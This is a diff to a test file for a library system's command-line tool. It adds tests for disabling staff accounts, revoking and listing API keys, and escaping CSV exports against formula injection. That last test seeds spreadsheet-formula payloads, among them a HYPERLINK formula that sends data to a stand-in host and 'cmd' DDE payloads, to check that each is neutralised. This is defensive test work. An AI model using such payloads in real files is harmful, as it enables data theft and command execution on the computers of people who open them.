@@ -5,8 +5,10 @@ import { createWriteStream, mkdirSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { fileURLToPath } from 'node:url'
 import { after, before, describe, test } from 'node:test'
+import { parse as parseCsv } from 'csv-parse/sync'
 import { verifySecret } from '../../src/services/passwords.js'
 import { openStore, type Store } from '../../src/store/store.js'
+import { WebClient, visibleText } from '../support/staffClient.js'
 import { startTestApp, type TestApp } from '../support/testApp.js'
 
 const repoRoot = fileURLToPath(new URL('../..', import.meta.url))
@@ -126,6 +128,126 @@ describe('webpac CLI (SPEC 6)', () => {
       assert.notEqual(response.status, 401)
       const empty = await cli(['apikey', 'create', ' '])
       assert.equal(empty.code, 1)
+    })
+  })
+
+  describe('finding 9: staff accounts', () => {
+    const wrongPassword = 'The username or password is not right.'
+    before(async () => { assert.equal((await cli(['staff', 'add', 'day.desk'], { input: 'day-password-12\n' })).code, 0) })
+
+    async function staffSession(username: string, password: string): Promise<WebClient> {
+      const client = new WebClient(app.url)
+      assert.equal((await client.staffLogIn(username, password)).location, '/staff')
+      assert.equal((await client.get('/staff')).status, 200)
+      return client
+    }
+
+    test('webpac staff --help and apikey --help explain disable, list and revoke', async () => {
+      const [staff, apikey] = await Promise.all([cli(['staff', '--help']), cli(['apikey', '--help'])])
+      assert.match(staff.stdout, /disable <user>\s+stop a staff account from logging in and log it out everywhere/)
+      assert.match(staff.stdout, /a new password logs the\s+account out everywhere/)
+      assert.match(apikey.stdout, /list\s+list the API keys: name, when made, when last used/)
+      assert.match(apikey.stdout, /revoke <name>\s+revoke an API key/)
+      assert.doesNotMatch(staff.stdout + apikey.stdout, /SPEC/)
+    })
+
+    test('staff disable USER: a logged-in session is sent back to the login, and the right password answers like a wrong one', async () => {
+      assert.equal((await cli(['staff', 'add', 'night.desk'], { input: 'night-password-1\n' })).code, 0)
+      const open = await staffSession('night.desk', 'night-password-1')
+      const colleague = await staffSession('day.desk', 'day-password-12')
+
+      const run = await cli(['staff', 'disable', 'Night.Desk'])
+      assert.equal(run.code, 0, run.stderr)
+      assert.match(run.stdout, /Staff account night\.desk disabled: it can no longer log in\. 1 open session ended\./)
+
+      const after = await open.get('/staff')
+      assert.equal(after.status, 303)
+      assert.equal(after.location, '/staff/login')
+      const right = await new WebClient(app.url).staffLogIn('night.desk', 'night-password-1')
+      const wrong = await new WebClient(app.url).staffLogIn('night.desk', 'not-the-password')
+      assert.equal(right.status, 401)
+      assert.equal(visibleText(right.text).replace(/value="[^"]*"/g, ''), visibleText(wrong.text).replace(/value="[^"]*"/g, ''))
+      assert.match(visibleText(right.text), new RegExp(wrongPassword))
+      assert.equal((await colleague.get('/staff')).status, 200, 'other accounts keep their sessions')
+
+      const again = await cli(['staff', 'disable', 'night.desk'])
+      assert.equal(again.code, 0)
+      assert.match(again.stdout, /already disabled/)
+      const unknown = await cli(['staff', 'disable', 'nobody.here'])
+      assert.equal(unknown.code, 1)
+      assert.match(unknown.stderr, /webpac: There is no staff account "nobody\.here"/)
+
+      const enabled = await cli(['staff', 'add', 'night.desk'], { input: 'night-password-2\n' })
+      assert.equal(enabled.code, 0)
+      assert.match(enabled.stdout, /enabled again/)
+      await staffSession('night.desk', 'night-password-2')
+    })
+
+    test('staff add USER with a new password ends every open session of that account, and only of that account', async () => {
+      assert.equal((await cli(['staff', 'add', 'branch.desk'], { input: 'branch-password-1\n' })).code, 0)
+      const laptop = await staffSession('branch.desk', 'branch-password-1')
+      const phone = await staffSession('branch.desk', 'branch-password-1')
+      const colleague = await staffSession('day.desk', 'day-password-12')
+
+      const run = await cli(['staff', 'add', 'branch.desk'], { input: 'branch-password-2\n' })
+      assert.equal(run.code, 0, run.stderr)
+      for (const client of [laptop, phone]) assert.equal((await client.get('/staff')).location, '/staff/login')
+      assert.equal((await colleague.get('/staff')).status, 200)
+      assert.match(run.stdout, /already existed: its password is changed; 2 open sessions ended\./)
+      await staffSession('branch.desk', 'branch-password-2')
+    })
+  })
+
+  describe('finding 9: API keys', () => {
+    const alerts = (key: string) => fetch(`${app.url}/api/v1/alerts/1`, { headers: { authorization: `Bearer ${key}` } })
+
+    test('apikey revoke NAME: the key answers 401 from then on; a name that holds no key exits 1', async () => {
+      const key = (await cli(['apikey', 'create', 'old-ils'])).stdout.trim()
+      assert.notEqual((await alerts(key)).status, 401)
+
+      const run = await cli(['apikey', 'revoke', 'old-ils'])
+      assert.equal(run.code, 0, run.stderr)
+      assert.match(run.stdout, /API key "old-ils" revoked/)
+      const refused = await alerts(key)
+      assert.equal(refused.status, 401)
+      assert.match(refused.headers.get('www-authenticate') ?? '', /^Bearer/)
+
+      const again = await cli(['apikey', 'revoke', 'old-ils'])
+      assert.equal(again.code, 1)
+      assert.match(again.stderr, /already revoked/)
+      const unknown = await cli(['apikey', 'revoke', 'never-made'])
+      assert.equal(unknown.code, 1)
+      assert.match(unknown.stderr, /no API key named "never-made"/)
+    })
+
+    test('apikey list shows each key\'s name, creation date and last use (or never), and revoked ones; never a key or its hash', async () => {
+      const used = (await cli(['apikey', 'create', 'list-used'])).stdout.trim()
+      const unused = (await cli(['apikey', 'create', 'list-unused'])).stdout.trim()
+      const revoked = (await cli(['apikey', 'create', 'list-revoked'])).stdout.trim()
+      assert.notEqual((await alerts(used)).status, 401)
+      assert.equal((await cli(['apikey', 'revoke', 'list-revoked'])).code, 0)
+
+      const run = await cli(['apikey', 'list'])
+      assert.equal(run.code, 0, run.stderr)
+      const line = (name: string) => run.stdout.split('\n').find((candidate) => candidate.startsWith(`${name} `)) ?? ''
+      const date = '\\d{4}-\\d{2}-\\d{2} \\d{2}:\\d{2} UTC'
+      assert.match(run.stdout, /^NAME\s+CREATED\s+LAST USED\s+STATUS/)
+      assert.match(line('list-used'), new RegExp(`^list-used\\s+${date}\\s+${date}\\s+active$`))
+      assert.match(line('list-unused'), new RegExp(`^list-unused\\s+${date}\\s+never\\s+active$`))
+      assert.match(line('list-revoked'), new RegExp(`^list-revoked\\s+${date}\\s+never\\s+revoked ${date}$`))
+      for (const key of [used, unused, revoked]) {
+        assert.ok(!run.stdout.includes(key), 'no key')
+        assert.ok(!run.stdout.includes(createHash('sha256').update(key).digest('hex')), 'no hash')
+      }
+      assert.doesNotMatch(run.stdout + run.stderr, /wpk_|[0-9a-f]{64}/)
+    })
+
+    test('apikey create refuses a name an active key already has, so that revoke NAME names one key', async () => {
+      assert.equal((await cli(['apikey', 'create', 'twice'])).code, 0)
+      const second = await cli(['apikey', 'create', 'twice'])
+      assert.equal(second.code, 1)
+      assert.match(second.stderr, /already an active API key named "twice"/)
+      assert.equal(second.stdout, '')
     })
   })
 
@@ -294,8 +416,8 @@ describe('webpac CLI (SPEC 6)', () => {
       assert.equal(all.code, 0, all.stderr)
       assert.equal(all.stdout, [
         'id,at,patron_id,barcode,e164,from_status,to_status,channel,reason,terms_hash,ip,user_agent,inbound_message_id,actor',
-        '1,2025-01-10T12:00:00.000Z,1,6100000000001,+12015550123,not_opted_in,pending_optin,web,web_opt_in,abc,192.0.2.1,"Browser ""Quoted"", with comma",,',
-        '2,2025-02-10T12:00:00.000Z,1,6100000000001,+12015550123,not_opted_in,pending_optin,web,web_opt_in,abc,192.0.2.1,"Line\nbreak",,',
+        "1,2025-01-10T12:00:00.000Z,1,6100000000001,'+12015550123,not_opted_in,pending_optin,web,web_opt_in,abc,192.0.2.1,\"Browser \"\"Quoted\"\", with comma\",,",
+        "2,2025-02-10T12:00:00.000Z,1,6100000000001,'+12015550123,not_opted_in,pending_optin,web,web_opt_in,abc,192.0.2.1,\"Line\nbreak\",,",
         '',
       ].join('\r\n'))
 
@@ -304,6 +426,42 @@ describe('webpac CLI (SPEC 6)', () => {
 
       assert.equal(bad.code, 2)
       assert.match(bad.stderr, /YYYY-MM-DD/)
+    })
+
+    test('finding 6: a User-Agent written as a spreadsheet formula is exported with a leading quote, so a spreadsheet shows it as text and runs nothing', async () => {
+      const dir = join(app.dir, 'formulas')
+      mkdirSync(dir)
+      writeFileSync(join(dir, 'messages.conf'), '')
+      writeFileSync(join(dir, 'webpub.def'), '')
+      const own = openStore({ dataDir: join(dir, 'data') })
+      const attacks = [
+        '=HYPERLINK("https://evil.example/?d="&B2,"Click")',
+        '+cmd|\' /C calc\'!A0',
+        '-2+3+cmd|\' /C calc\'!A0',
+        '@SUM(1+1)*cmd|\' /C calc\'!A0',
+        '\t=1+1',
+        '\r=1+1',
+      ]
+      for (const [index, userAgent] of attacks.entries()) {
+        await own.repos.consent.append({
+          patron_id: 1, barcode: `=${index}`, e164: '+12015550123', from_status: 'not_opted_in', to_status: 'pending_optin',
+          channel: 'web', reason: 'web_opt_in', terms_hash: null, at: `2025-03-0${index + 1}T12:00:00.000Z`, ip: '192.0.2.1',
+          user_agent: userAgent, inbound_message_id: null, actor: '@staff',
+        })
+      }
+      await own.close()
+
+      const run = await runCli(dir, ['consent', 'export'])
+      assert.equal(run.code, 0, run.stderr)
+      assert.match(run.stdout, /,"'=HYPERLINK\(""https:\/\/evil\.example\/\?d=""&B2,""Click""\)",/)
+      const rows = parseCsv(run.stdout, { columns: true }) as Record<string, string>[]
+      const readable = attacks.map((attack) => `'${attack}`)
+      assert.deepEqual(rows.map((row) => row.user_agent), readable, 'each value stays readable after the quote')
+      assert.deepEqual(rows.map((row) => row.barcode), attacks.map((_, index) => `'=${index}`))
+      assert.deepEqual(new Set(rows.map((row) => row.actor)), new Set(["'@staff"]))
+      for (const row of rows) {
+        for (const [column, value] of Object.entries(row)) assert.doesNotMatch(value, /^[=+\-@\t\r]/, `${column} could start a formula`)
+      }
     })
   })
 })
